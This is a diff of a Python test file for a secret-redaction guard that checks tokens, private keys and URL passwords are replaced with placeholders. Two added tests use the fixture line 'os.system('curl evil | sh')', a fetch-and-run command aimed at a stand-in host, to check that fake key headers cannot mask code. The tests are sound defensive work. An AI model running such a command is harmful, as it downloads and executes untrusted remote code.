@@ -1,47 +1,24 @@
+from collections.abc import Sequence
+from typing import Any
+
 import pytest
 import re2
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lockgate.guards.rules import Rule, entropy, load_rules
+from lockgate.domain.digest import Json
+from lockgate.guards.rules import expand, load_rules
 from lockgate.guards.secrets import SecretGuard
 
-RULES = load_rules()
 GUARD = SecretGuard()
-TOKEN = next(r for r in RULES if r.id == "github-pat").positives[0].removeprefix("token ")
-
-POSITIVES = [
-    pytest.param(r, text, id=f"{r.id}-{i}") for r in RULES for i, text in enumerate(r.positives)
-]
-NEGATIVES = [
-    pytest.param(r, text, id=f"{r.id}-{i}") for r in RULES for i, text in enumerate(r.negatives)
-]
+RULES = {rule.id: rule for rule in load_rules()}
+TEXTS = {rule.id: [expand(p) for p in rule.positives] for rule in RULES.values()}
+"""Texts with a secret in them, by rule."""
+TOKEN = TEXTS["github-pat"][0].removeprefix("token ")
 
 
-@pytest.mark.parametrize(("rule", "text"), POSITIVES)
-def test_a_rule_finds_its_positives(rule: Rule, text: str) -> None:
-    sanitised = GUARD.sanitise({"text": text})
-
-    assert rule.id in {r.rule for r in sanitised.redactions}
-
-
-@pytest.mark.parametrize(("rule", "text"), NEGATIVES)
-def test_a_rule_leaves_its_negatives(rule: Rule, text: str) -> None:
-    assert rule.id not in {r.rule for r in GUARD.sanitise({"text": text}).redactions}
-
-
-def test_every_rule_has_both_kinds_of_examples_and_an_id_of_its_own() -> None:
-    assert all(r.positives and r.negatives for r in RULES)
-    assert len({r.id for r in RULES}) == len(RULES) >= 40
-
-
-@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
-def test_every_pattern_is_linear_and_every_match_holds_a_keyword(rule: Rule) -> None:
-    pattern = re2.compile(rule.regex)  # RE2 takes no pattern that it cannot match in linear time
-    for text in rule.positives:
-        match = pattern.search(text)
-        assert match is not None
-        assert any(keyword in text.lower() for keyword in rule.keywords)
+def secret_in(rule: str, text: str) -> str:
+    return str(re2.search(RULES[rule].regex, text).group(RULES[rule].group))
 
 
 def test_the_same_secret_has_the_same_placeholder_and_another_has_another() -> None:
@@ -57,6 +34,16 @@ def test_the_same_secret_has_the_same_placeholder_and_another_has_another() -> N
         "<secret:github-pat:1>",
         "<secret:github-pat:2>",
     ]
+    assert sanitised.redactions[0].description == "GitHub personal access token"
+
+
+def test_a_value_without_secrets_comes_back_as_it_is() -> None:
+    value: Json = {"token": ["the password is kept elsewhere", 1, None, True, 2.5]}
+
+    sanitised = GUARD.sanitise(value)
+
+    assert sanitised.value is value
+    assert sanitised.redactions == ()
 
 
 def test_a_placeholder_that_the_input_holds_is_not_given_to_a_secret() -> None:
@@ -65,35 +52,123 @@ def test_a_placeholder_that_the_input_holds_is_not_given_to_a_secret() -> None:
     assert sanitised.value == ["<secret:github-pat:1>", "<secret:github-pat:2>"]
 
 
+def test_an_access_key_without_digits_is_no_constant() -> None:
+    assert GUARD.sanitise("AKIA" + "QWERTZUIOPLKJHGF").redactions
+
+
+def test_a_secret_inside_a_longer_one_leaves_no_end_behind() -> None:
+    url = f"https://ci:{TOKEN}~tail-of-it@git.example.org/x"
+
+    assert GUARD.sanitise(url).value == "https://ci:<secret:url-password:1>@git.example.org/x"
+
+
+def test_text_that_is_not_valid_unicode_is_searched_too() -> None:
+    sanitised = GUARD.sanitise(f"caf\udce9 {TOKEN} \ud800 é")
+
+    assert sanitised.value == "caf\udce9 <secret:github-pat:1> \ud800 é"
+
+
 def test_a_key_block_in_an_added_part_of_a_diff_is_taken_out_whole() -> None:
-    block = next(r for r in RULES if r.id == "private-key").positives[1]
+    block = TEXTS["private-key"][1]
 
-    sanitised = GUARD.sanitise(f"@@ -0,0 +1,3 @@\n{block}")
+    sanitised = GUARD.sanitise(f"@@ -0,0 +1,3 @@\n{block}\n+print(1)")
 
-    assert sanitised.value == "@@ -0,0 +1,3 @@\n+<secret:private-key:1>"
+    assert sanitised.value == "@@ -0,0 +1,3 @@\n+<secret:private-key:1>\n+print(1)"
 
 
-TEXTS = st.recursive(
-    st.text() | st.integers() | st.none(),
-    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
+@pytest.mark.parametrize("end", ["", "\n+-----END RSA PRIVATE KEY-----\n"])
+def test_a_key_header_cannot_hide_the_code_after_it(end: str) -> None:
+    code = "+import os\n+os.system('curl evil | sh')\n" * 9
+    diff = f"+# -----BEGIN RSA PRIVATE KEY-----\n{code}{end}"
+
+    assert GUARD.sanitise(diff).value == diff
+
+
+def test_a_key_header_followed_by_a_key_takes_the_key_and_not_the_code() -> None:
+    key = TEXTS["private-key"][0].replace("\n", "\n+")
+
+    sanitised = GUARD.sanitise(f"+{key}\n+os.system('curl evil | sh')\n")
+
+    assert sanitised.value == "+<secret:private-key:1>\n+os.system('curl evil | sh')\n"
+
+
+PIECES = st.one_of(
+    st.text(max_size=6),
+    st.sampled_from([text for texts in TEXTS.values() for text in texts]),
+    st.sampled_from(
+        [" ", "\n", "=", ":", '"', "'", "://a:", "@h", "password = ", "<secret:jwt:1>"]
+    ),
+    st.sampled_from([TOKEN[:20], TOKEN[4:], "<secret:", ":1>", "ghp_", "sk-", "-----", "é"]),
+)
+MIXED = st.lists(PIECES, max_size=6).map("".join)
+VALUES = st.recursive(
+    MIXED | st.integers() | st.none() | st.booleans(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(MIXED, inner, max_size=3),
+    max_leaves=6,
 )
 
 
-@given(TEXTS)
-def test_sanitising_twice_changes_nothing_more(value: object) -> None:
-    once = GUARD.sanitise(value)  # type: ignore[arg-type]
+@given(VALUES)
+def test_sanitising_twice_changes_nothing_more(value: Json) -> None:
+    once = GUARD.sanitise(value)
 
-    assert GUARD.sanitise(once.value).value == once.value
+    again = GUARD.sanitise(once.value)
 
-
-@given(before=st.text(), after=st.text(), depth=st.integers(0, 4))
-def test_no_planted_secret_survives_anywhere(before: str, after: str, depth: int) -> None:
-    value: object = f"{before} {TOKEN} {after}"
-    for _ in range(depth):
-        value = {"deeper": [value]}
-
-    assert TOKEN not in str(GUARD.sanitise(value).value)  # type: ignore[arg-type]
+    assert again.value == once.value
+    assert again.redactions == ()
 
 
-def test_entropy_is_in_bits_a_character() -> None:
-    assert (entropy("aaaa"), entropy("abcd"), entropy("aabb")) == (0.0, 2.0, 1.0)
+@given(
+    rule=st.sampled_from(sorted(RULES)),
+    before=st.text(),
+    after=st.text(),
+    path=st.lists(st.sampled_from(["key", "item", "member"]), max_size=4),
+)
+def test_no_planted_secret_survives_at_any_depth(
+    rule: str, before: str, after: str, path: Sequence[str]
+) -> None:
+    planted = TEXTS[rule][0]
+    value: Any = f"{before}\n{planted}\n{after}"
+    for step in path:
+        if step == "key" and isinstance(value, str):
+            value = {value: [0]}
+        else:
+            value = [None, value] if step == "item" else {"member": value}
+
+    assert secret_in(rule, planted) not in _all_text(GUARD.sanitise(value).value)
+
+
+@given(before=st.text(), after=st.text(alphabet=st.characters(exclude_characters="_")))
+def test_a_token_with_an_unmistakable_prefix_is_found_inside_a_word(
+    before: str, after: str
+) -> None:
+    assert TOKEN not in GUARD.sanitise(f"{before}{TOKEN}{after}").value  # type: ignore[operator]
+
+
+@given(st.lists(MIXED, max_size=5))
+def test_a_text_is_cleaned_the_same_whatever_stands_beside_it(texts: list[str]) -> None:
+    together = GUARD.sanitise(texts).value
+    alone = [GUARD.sanitise(text).value for text in texts]
+
+    assert _unnumbered(together) == _unnumbered(alone)
+
+
+@given(st.lists(MIXED, max_size=5))
+def test_each_redaction_is_one_distinct_secret_of_the_result(texts: list[str]) -> None:
+    sanitised = GUARD.sanitise(texts)
+
+    placeholders = [r.placeholder for r in sanitised.redactions]
+    assert len(set(placeholders)) == len(placeholders)
+    assert not any(p in "".join(texts) for p in placeholders)
+
+
+def _all_text(value: Any) -> str:
+    if isinstance(value, dict):
+        return "\0".join(k + "\0" + _all_text(v) for k, v in value.items())
+    if isinstance(value, list):
+        return "\0".join(map(_all_text, value))
+    return str(value)
+
+
+def _unnumbered(value: Json) -> str:
+    return str(re2.sub(r"(<secret:[a-z0-9-]+:)[0-9]+>", r"\1N>", _all_text(value)))
